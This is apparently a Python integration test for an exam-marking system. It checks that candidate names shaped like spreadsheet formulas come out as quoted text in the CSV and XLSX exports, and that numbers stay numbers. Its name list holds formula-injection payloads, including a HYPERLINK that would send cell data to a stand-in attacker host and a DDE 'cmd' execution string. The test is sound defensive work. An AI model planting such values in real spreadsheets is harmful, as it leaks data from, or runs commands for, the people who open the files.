"""No cell of a CSV or XLSX that blindmark writes becomes a formula (issue 9, item 9): a
candidate named ``=HYPERLINK(...)`` stays text in the exports, the register and the
statistics; numbers stay numbers."""

from __future__ import annotations

import csv
import dataclasses
import io
from decimal import Decimal
from pathlib import Path

from openpyxl import load_workbook
from sqlalchemy.orm import Session

from marking.cli.exports import write_csv
from marking.publication.publish import publish
from marking.read import exports, reportdata
from reports.produce import produce
from tests.integration import factory as f
from web.actions import export_csv

NAMES = [
    '=HYPERLINK("http://evil.example/?leak="&C2,"点击查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "＝1+1",
]


def _published(db: Session, tmp_path: Path) -> tuple[object, list[str]]:
    f.add_staff(db)
    f.add_examiners(db, tmp_path, "e1", "e2")
    exam, keys = f.new_session(db, tmp_path, f.tiny_toml("XL-1", station="S-XL-1"), key_file=True)
    roster = [
        dataclasses.replace(c, name=name, institution="@" + c.institution)
        for c, name in zip(f.people(len(NAMES), seed=9), NAMES, strict=True)
    ]
    f.take_in(db, exam, tmp_path / "batch", roster, f.tiny_rows(roster))
    f.open_marking(db, exam, {"short": ("e1", "e2"), "prac": ("e1", "e2")})
    # e1 marks half a point below e2 everywhere: a severity of -0.5, a negative number.
    f.mark_all(db, exam, ["e1", "e2"], lambda _item, user: Decimal("2.5" if user == "e1" else 3))
    f.approve(db, exam)
    publish(db, exam, by="office", approved_by="director", key=keys.open(exam))
    return exam, [c.name for c in sorted(roster, key=lambda c: c.exam_no)]


def test_a_candidate_named_like_a_formula_is_text_in_every_spreadsheet(
    db: Session, tmp_path: Path
) -> None:
    exam, names = _published(db, tmp_path)
    quoted = ["'" + name for name in names]

    # The §11 results export, as the web serves it and as the command line writes it.
    columns, rows = exports.results_rows(db, exam)  # type: ignore[arg-type]
    write_csv(tmp_path / "results.csv", columns, rows)
    for text in (
        export_csv(db, exam, "results").decode("utf-8-sig"),  # type: ignore[arg-type]
        (tmp_path / "results.csv").read_text(encoding="utf-8-sig"),
    ):
        table = list(csv.reader(io.StringIO(text)))
        assert [r[1] for r in table[1:]] == quoted
        assert all(r[0].isdigit() and r[2][:17].isdigit() for r in table[1:])  # unchanged
        assert [r[5] for r in table[1:]] == ["62.5"] * len(names)  # scores as they are

    # The register, as CSV and as XLSX.
    register = reportdata.gather(db, exam, "register")  # type: ignore[arg-type]
    lines = list(
        csv.reader(io.StringIO(produce("register", register, fmt="csv").decode("utf-8-sig")))
    )
    assert [r[1] for r in lines[2 : 2 + len(names)]] == quoted
    assert all(r[3].startswith("'@") for r in lines[2 : 2 + len(names)])
    book = load_workbook(io.BytesIO(produce("register", register, fmt="xlsx")))
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a live formula"
    sheet = book.worksheets[0]
    assert [sheet.cell(row=i, column=2).value for i in range(2, 2 + len(names))] == quoted
    scores = [sheet.cell(row=i, column=5).value for i in range(2, 2 + len(names))]
    assert all(isinstance(s, int | float) for s in scores), scores  # number cells


def test_a_negative_number_stays_a_number_in_the_statistics(db: Session, tmp_path: Path) -> None:
    exam, _names = _published(db, tmp_path)
    stats = reportdata.gather(db, exam, "stats")  # type: ignore[arg-type]
    book = load_workbook(io.BytesIO(produce("stats", stats, fmt="xlsx", lang="en")))
    sheet = book.worksheets[-1]
    assert sheet.title.startswith("Agreement and severity")
    rows = list(sheet.iter_rows(min_row=2, values_only=True))
    severity = {row[0]: row[-1] for row in rows}
    assert sorted(severity.values()) == [-0.5, 0]  # number cells, not text
    text = produce("stats", stats, fmt="csv", lang="en").decode("utf-8-sig")
    assert ",-0.500\r\n" in text and "'-0" not in text
